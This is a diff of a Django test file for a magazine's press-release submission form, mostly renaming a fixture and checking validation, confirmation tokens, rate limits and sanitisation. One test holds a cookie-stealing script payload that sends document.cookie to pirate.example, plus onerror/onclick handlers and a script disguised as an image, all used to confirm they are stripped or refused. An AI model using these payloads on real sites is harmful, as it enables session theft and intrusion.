@@ -14,20 +14,23 @@ from magazine.models import ArticleKind, ArticlePage, PressReleaseAttachment, Pr
 from magazine.press.services import confirmation_token
 from tests.home.html import h1s, parse, texts
 
+from . import press_support
 from .press_support import (
     CONTACT_EMAIL,
     emails_to,
     exe_bytes,
     form_data,
     link_in,
-    magazine,  # noqa: F401 (fixture)
-    media_root,  # noqa: F401 (fixture)
     pdf_bytes,
     png_bytes,
     upload,
 )
 
 pytestmark = pytest.mark.django_db
+
+# Fixtures shared with the other press-release tests.
+press_magazine = press_support.press_magazine
+media_root = press_support.media_root
 
 SUBMIT_URL = "/magazine/communiques/proposer/"
 
@@ -38,7 +41,9 @@ def errors_of(response) -> dict[str, str]:
     errors = {}
     for node in tree.xpath("//*[contains(@class, 'field--error')]"):
         field_ids = node.xpath(".//*[@aria-invalid='true']/@id")
-        message = " ".join(" ".join(item.text_content().split()) for item in node.xpath(".//*[contains(@id, '_errors')]"))
+        message = " ".join(
+            " ".join(item.text_content().split()) for item in node.xpath(".//*[contains(@id, '_errors')]")
+        )
         for field_id in field_ids:
             errors[field_id] = message
     summary = texts(tree, "//div[@id='erreurs']/p[position() > 1]")
@@ -57,8 +62,11 @@ def test_the_url_is_the_one_the_issue_names():
     assert reverse("magazine:press_release_submit") == SUBMIT_URL
 
 
-def test_the_form_shows_its_labelled_fields_and_hides_the_honeypot(client, magazine, django_assert_max_num_queries):
-    with django_assert_max_num_queries(8):
+def test_the_form_shows_its_labelled_fields_and_hides_the_honeypot(
+    client, press_magazine, django_assert_max_num_queries
+):
+    client.get(SUBMIT_URL)  # the first request of a site creates its settings row
+    with django_assert_max_num_queries(6):
         response = client.get(SUBMIT_URL)
     assert response.status_code == 200
     assert h1s(response) == ["Proposer un communiqué de presse"]
@@ -76,7 +84,7 @@ def test_the_form_shows_its_labelled_fields_and_hides_the_honeypot(client, magaz
 
 
 def test_a_valid_release_is_saved_pending_and_an_email_asks_to_confirm_it(
-    client, magazine, django_assert_max_num_queries
+    client, press_magazine, django_assert_max_num_queries
 ):
     data = form_data(attachments=[upload("dossier.pdf", pdf_bytes()), upload("photo.png", png_bytes())])
     with django_assert_max_num_queries(15):
@@ -100,7 +108,7 @@ def test_a_valid_release_is_saved_pending_and_an_email_asks_to_confirm_it(
     assert h1s(sent) == ["Vérifiez votre boîte de réception"]
 
 
-def test_the_confirmation_link_shows_a_button_and_only_the_post_creates_the_draft(client, magazine):
+def test_the_confirmation_link_shows_a_button_and_only_the_post_creates_the_draft(client, press_magazine):
     client.post(SUBMIT_URL, form_data(attachments=[upload("dossier.pdf", pdf_bytes())]))
     link = link_in(emails_to(CONTACT_EMAIL)[0], "/magazine/communiques/confirmer/")
 
@@ -116,7 +124,7 @@ def test_the_confirmation_link_shows_a_button_and_only_the_post_creates_the_draf
     article = ArticlePage.objects.get()
     assert article.kind == ArticleKind.PRESS_RELEASE
     assert not article.live
-    assert article.get_parent().specific == magazine["ess"]
+    assert article.get_parent().specific == press_magazine["ess"]
     assert article.source_name == "Les Tisserands"
     assert article.source_organisation is None
     assert article.current_workflow_state is not None
@@ -133,7 +141,7 @@ def test_the_confirmation_link_shows_a_button_and_only_the_post_creates_the_draf
     "token, message",
     [("pas-un-jeton", "incomplet ou n’existe pas"), ("eyJzdWJtaXNzaW9uIjoxfQ:forged:signature", "incomplet")],
 )
-def test_a_forged_confirmation_link_is_refused(client, magazine, token, message):
+def test_a_forged_confirmation_link_is_refused(client, press_magazine, token, message):
     response = client.get(reverse("magazine:press_release_confirm", args=[token]))
     assert response.status_code == 400
     assert message in response.content.decode()
@@ -141,7 +149,7 @@ def test_a_forged_confirmation_link_is_refused(client, magazine, token, message)
     assert not ArticlePage.objects.exists()
 
 
-def test_an_expired_confirmation_link_is_refused(client, magazine):
+def test_an_expired_confirmation_link_is_refused(client, press_magazine):
     client.post(SUBMIT_URL, form_data())
     submission = PressReleaseSubmission.objects.get()
     with mock.patch("django.core.signing.time.time", return_value=time.time() - 49 * 3600):
@@ -169,7 +177,7 @@ def test_an_expired_confirmation_link_is_refused(client, magazine):
         ("text", "<script>" + "alert('pirate');" * 20 + "</script>Court.", "Le texte est trop court"),
     ],
 )
-def test_missing_or_invalid_fields_are_refused_with_a_french_message(client, magazine, field, value, message):
+def test_missing_or_invalid_fields_are_refused_with_a_french_message(client, press_magazine, field, value, message):
     response = client.post(SUBMIT_URL, form_data(**{field: value}))
     assert response.status_code == 400
     errors = errors_of(response)
@@ -178,7 +186,7 @@ def test_missing_or_invalid_fields_are_refused_with_a_french_message(client, mag
     assert_nothing_saved()
 
 
-def test_an_exe_renamed_pdf_is_refused(client, magazine):
+def test_an_exe_renamed_pdf_is_refused(client, press_magazine):
     data = form_data(attachments=[upload("communique.pdf", exe_bytes(), "application/pdf")])
     response = client.post(SUBMIT_URL, data)
     assert response.status_code == 400
@@ -186,7 +194,7 @@ def test_an_exe_renamed_pdf_is_refused(client, magazine):
     assert_nothing_saved()
 
 
-def test_a_script_renamed_png_is_refused(client, magazine):
+def test_a_script_renamed_png_is_refused(client, press_magazine):
     data = form_data(attachments=[upload("photo.png", b"<script>alert(1)</script>", "image/png")])
     response = client.post(SUBMIT_URL, data)
     assert response.status_code == 400
@@ -194,7 +202,7 @@ def test_a_script_renamed_png_is_refused(client, magazine):
     assert_nothing_saved()
 
 
-def test_an_oversized_attachment_is_refused(client, magazine, settings):
+def test_an_oversized_attachment_is_refused(client, press_magazine, settings):
     settings.PRESS_RELEASE_MAX_ATTACHMENT_BYTES = 1024
     data = form_data(attachments=[upload("gros.pdf", pdf_bytes() + b"0" * 2000, "application/pdf")])
     response = client.post(SUBMIT_URL, data)
@@ -203,7 +211,7 @@ def test_an_oversized_attachment_is_refused(client, magazine, settings):
     assert_nothing_saved()
 
 
-def test_more_than_three_attachments_are_refused(client, magazine):
+def test_more_than_three_attachments_are_refused(client, press_magazine):
     data = form_data(attachments=[upload(f"piece-{n}.pdf", pdf_bytes()) for n in range(4)])
     response = client.post(SUBMIT_URL, data)
     assert response.status_code == 400
@@ -211,17 +219,17 @@ def test_more_than_three_attachments_are_refused(client, magazine):
     assert_nothing_saved()
 
 
-def test_the_honeypot_refuses_robots(client, magazine):
+def test_the_honeypot_refuses_robots(client, press_magazine):
     response = client.post(SUBMIT_URL, form_data(website="https://spam.example"))
     assert response.status_code == 400
     assert "ressemble à celui d’un robot" in errors_of(response)["__all__"]
     assert_nothing_saved()
 
 
-def test_script_in_the_text_is_removed_and_never_reaches_the_page(client, magazine, editor):
+def test_script_in_the_text_is_removed_and_never_reaches_the_page(client, press_magazine, editor):
     text = (
         "<script>document.location='https://pirate.example/?c='+document.cookie</script>"
-        "<p onclick=\"alert(1)\">Une <b>coopérative</b> d’habitants inaugure son premier immeuble à Lyon.</p>"
+        '<p onclick="alert(1)">Une <b>coopérative</b> d’habitants inaugure son premier immeuble à Lyon.</p>'
         "<p>Les trente logements ont été conçus avec les futurs habitants, qui en restent collectivement "
         "propriétaires.</p><img src=x onerror=alert(2)>"
     )
@@ -240,7 +248,7 @@ def test_script_in_the_text_is_removed_and_never_reaches_the_page(client, magazi
     assert "Les trente logements" in html
 
 
-def test_the_same_release_sent_twice_is_refused(client, magazine):
+def test_the_same_release_sent_twice_is_refused(client, press_magazine):
     assert client.post(SUBMIT_URL, form_data()).status_code == 302
     # Same text with other spacing and case: still the same release.
     again = form_data(title="UN ATELIER de réparation textile ouvre à Roubaix  ")
@@ -251,14 +259,14 @@ def test_the_same_release_sent_twice_is_refused(client, magazine):
     assert len(emails_to(CONTACT_EMAIL)) == 1
 
 
-def test_a_release_never_confirmed_may_be_sent_again_once_its_link_expired(client, magazine):
+def test_a_release_never_confirmed_may_be_sent_again_once_its_link_expired(client, press_magazine):
     assert client.post(SUBMIT_URL, form_data()).status_code == 302
     PressReleaseSubmission.objects.update(created_at=timezone.now() - timedelta(hours=49))
     assert client.post(SUBMIT_URL, form_data()).status_code == 302
     assert PressReleaseSubmission.objects.count() == 2
 
 
-def test_more_than_three_releases_an_hour_from_one_address_are_refused(client, magazine):
+def test_more_than_three_releases_an_hour_from_one_address_are_refused(client, press_magazine):
     for n in range(3):
         response = client.post(SUBMIT_URL, form_data(title=f"Communiqué numéro {n}"), REMOTE_ADDR=f"10.0.0.{n}")
         assert response.status_code == 302
@@ -268,7 +276,7 @@ def test_more_than_three_releases_an_hour_from_one_address_are_refused(client, m
     assert PressReleaseSubmission.objects.count() == 3
 
 
-def test_more_than_three_releases_an_hour_from_one_ip_are_refused(client, magazine):
+def test_more_than_three_releases_an_hour_from_one_ip_are_refused(client, press_magazine):
     for n in range(3):
         data = form_data(title=f"Communiqué numéro {n}", contact_email=f"agence{n}@presse.test")
         assert client.post(SUBMIT_URL, data, REMOTE_ADDR="10.1.2.3").status_code == 302
@@ -277,7 +285,7 @@ def test_more_than_three_releases_an_hour_from_one_ip_are_refused(client, magazi
     assert not emails_to("autre@presse.test")
 
 
-def test_a_known_organisation_becomes_the_source_of_the_draft(client, magazine):
+def test_a_known_organisation_becomes_the_source_of_the_draft(client, press_magazine):
     organisation = Organisation.objects.create(name="Les Tisserands", slug="les-tisserands", is_verified=True)
     client.post(SUBMIT_URL, form_data(organisation_name="les tisserands"))
     submission = PressReleaseSubmission.objects.get()
